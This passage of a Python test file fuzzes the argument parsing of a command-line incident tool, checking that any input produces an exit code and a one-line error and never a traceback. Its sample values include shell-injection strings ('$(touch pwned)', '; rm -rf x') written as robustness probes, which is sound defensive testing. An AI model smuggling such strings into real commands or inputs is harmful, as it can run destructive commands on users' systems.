        assert FUZZ_EXAMPLES >= 100
    assert not math.isnan(FUZZ_EXAMPLES)


# -- the command line ---------------------------------------------------------------------------------
#
# ``main(argv)`` in process, with the real parser and the real handlers of ``patterns`` and
# ``audit verify`` (on small files), and the costly engines (a run, the demo, an evaluation) replaced
# by fast stand-ins that still load configs and cases with the real loaders: what is fuzzed is
# everything between the argument vector and the engine, where a user's typo lands.

_CLI_WORDS = [
    "run",
    "eval",
    "patterns",
    "audit",
    "demo",
    "plugins",
    "verify",
    "patern",
    "evla",
    "audti",
    "demoo",
    "--help",
    "-h",
    "--version",
    "-q",
    "--quiet",
    "--json",
    "--compare",
    "--no-llm",
    "--",
    "-",
    "",
    "--severity",
    "--system",
    "--config",
    "--at",
    "--format",
    "--out",
    "--pattern",
    "--since",
    "--until",
    "--final-hash",
    "--severity=critical",
    "--format=json",
    "--at=2026-03-14T14:10:00Z",
    "--bogus",
]
_CLI_VALUES = [
    "critical",
    "high",
    "medium",
    "catastrophic",
    "json",
    "markdown",
    "plain",
    "python",
    "nginx",
    "pattern",
    "2026-03-14T14:10:00Z",
    "2026-03-14",
    "1773497400",
    "yesterday",
    "2026-02-30T00:00:00Z",
    "Website returning 502 errors for all users",
    "API slow",
    "checkout",
    "redis",
    "app.log",
    "empty.log",
    "binary.log",
    "missing.log",
    "ok.jsonl",
    "bad.jsonl",
    "case",
    "cases",
    "incident-flow.toml",
    "broken.toml",
    "report.md",
    "out/report.json",
    ".",
    "nowhere/x.json",
    "<Date> <Time> <Level> <Content>",
    "(?P<",
    "0" * 64,
    "$(touch pwned)",
    "; rm -rf x",
    "\x1b[2J",
]
_cli_value = st.sampled_from(_CLI_VALUES) | st.text(max_size=12)
_cli_arg = st.sampled_from(_CLI_WORDS) | _cli_value
# Each command's positional arguments and options, to build vectors that get past the first word.
_FORMS: dict[str, tuple[list[str], list[str]]] = {
    "run": (
        ["Website returning 502 errors"],
        ["--severity", "--system", "--config", "--at", "--format", "--out", "--no-llm", "-q"],
    ),
    "": (["API slow"], ["--severity", "--system", "--config", "--at", "--format", "--no-llm", "-q"]),
    "patterns": (["app.log"], ["--format", "--pattern", "--since", "--until", "--compare", "--json"]),
    "eval": (["case"], ["--json"]),
    "audit": (["verify", "ok.jsonl"], ["--final-hash"]),
    "demo": ([], ["--format", "--out", "-q"]),
    "plugins": ([], []),
}
#: Where ``--out`` writes in the fuzz: files it can create. A folder or a missing folder is a known
#: bug of the command (an internal error, exit 1): see test_an_unwritable_out_path_is_one_line.
_OUT_TARGETS = ["report.md", "report.json", "r"]


@st.composite
def argument_vectors(draw: st.DrawFn) -> list[str]:
    """Half arbitrary words, half a command with its positionals and options, values mutated."""
    if draw(st.booleans()):
        return draw(st.lists(_cli_arg, max_size=8))
    command = draw(st.sampled_from(sorted(_FORMS)))
    positionals, options = _FORMS[command]
    argv = [command] if command else []
    argv += [draw(st.just(p) | _cli_value) for p in positionals]
    for _ in range(draw(st.integers(0, 4))):
        option = draw(st.sampled_from(options) | _cli_arg) if options else draw(_cli_arg)
        argv.append(option)
        if option == "--out":
            argv.append(draw(st.sampled_from(_OUT_TARGETS)))
        elif option.startswith("--") and draw(st.integers(0, 4)):
            argv.append(draw(_cli_value))
    return argv


def _safe_arg(arg: str) -> str:
    """Keep generated paths inside the fuzz folder: no absolute path, no home, no parent."""
    arg = arg.replace("\x00", "")
    if arg.startswith(("/", "~")) or ".." in arg:
        return "x" + arg.replace("..", "_").replace("/", "_")
    return arg


@pytest.fixture(scope="module")
def cli_world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A folder to run the command in: logs, trails, a config, cases; the engines stubbed."""
    import incident_flow.cli as cli
    import incident_flow.demo as demo
    import incident_flow.evaluation as evaluation
    from incident_flow.audit import AuditTrail
    from incident_flow.config import Config
    from incident_flow.timeutil import parse_time as real_parse_time

    folder = tmp_path_factory.mktemp("cli")
    (folder / "app.log").write_text(
        "".join(f"2026-03-14 14:0{i % 10}:00,000 ERROR [orders] boom {i}\n" for i in range(30)),
        encoding="utf-8",
    )
    (folder / "empty.log").write_bytes(b"")
    (folder / "binary.log").write_bytes(b"\x00\x01\x02" * 100)
    with AuditTrail.open(folder, "ok") as trail:
        trail.record("note", text="x")
    (folder / "bad.jsonl").write_text('{"seq": 0}\n', encoding="utf-8")
    (folder / "incident-flow.toml").write_text(
        '[[sources]]\nname = "app"\ntype = "logs"\npaths = ["app.log"]\n', encoding="utf-8"
    )
    (folder / "broken.toml").write_text("[[sources]\nname = 1\n", encoding="utf-8")
    for name in ("case", "cases/one"):
        case = folder / name
        case.mkdir(parents=True)
        (case / "case.toml").write_text(
            'description = "x"\ndetected_at = "2026-03-14T14:10:00Z"\n[expected]\ncomponent = "redis"\n',
            encoding="utf-8",
        )
        (case / "incident-flow.toml").write_text("", encoding="utf-8")
    host = make_plugin_host()
    types = host.source_types()
    canned = _canned_report()

    async def fake_run(description: str, **kwargs: Any) -> Any:
        assert isinstance(description, str)
        config = kwargs.get("config")
        if config is not None and not isinstance(config, Config):
            load_config(config, types)  # raises ConfigError as the real run does
        if kwargs.get("at") is not None:
            real_parse_time(kwargs["at"], UTC)
        return canned

    async def fake_demo(**kwargs: Any) -> Any:
        return canned

    async def fake_evaluate(paths: Any, **kwargs: Any) -> Any:
        cases = [evaluation.load_case(path) for path in evaluation.find_cases(paths)]
        return evaluation.EvalSummary(tuple(evaluation._score(case, canned, 0.1) for case in cases))

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(cli, "arun_incident", fake_run)
        patch.setattr(cli, "make_plugin_host", lambda *a, **k: host)
        patch.setattr(demo, "run_demo", fake_demo)
        patch.setattr(evaluation, "evaluate", fake_evaluate)
        patch.chdir(folder)
        yield folder


@FUZZ
@given(argv=argument_vectors())
def test_the_command_line_takes_any_arguments(cli_world: Path, argv: list[str]) -> None:
    """``main(argv)``: an exit code, never an exception; a mistake is one line, never a traceback."""
    from incident_flow.cli import main

    argv = [_safe_arg(arg) for arg in argv]
    for index, arg in enumerate(argv[:-1]):
        if arg == "--out" and argv[index + 1] not in _OUT_TARGETS:
            argv[index + 1] = "report.out"  # see _OUT_TARGETS
    stdout, stderr = io.StringIO(), io.StringIO()
    code = main(argv, stdout=stdout, stderr=stderr)
    errors = stderr.getvalue()
    assert code in (0, 1, 2), (argv, code, errors)
    assert "Traceback" not in errors and "internal error" not in errors, (argv, errors)
    if code == 1:  # the one documented use of 1 besides a bug: a trail that is not intact
        assert "NOT intact" in stdout.getvalue(), (argv, errors)
    if code == 2 and argv:
        assert errors.strip(), argv


@pytest.mark.parametrize("target", [".", "nowhere/report.json"])
def test_an_unwritable_out_path_is_one_line(cli_world: Path, target: str) -> None:
    """``--out`` to a folder or into a missing folder: a one-line error naming the path, exit 2."""
    from incident_flow.cli import main

    stdout, stderr = io.StringIO(), io.StringIO()
    code = main(["run", "x y", "--out", target, "-q"], stdout=stdout, stderr=stderr)
    assert code == 2 and "internal error" not in stderr.getvalue(), stderr.getvalue()
    assert target in stderr.getvalue() and len(stderr.getvalue().strip().splitlines()) == 1
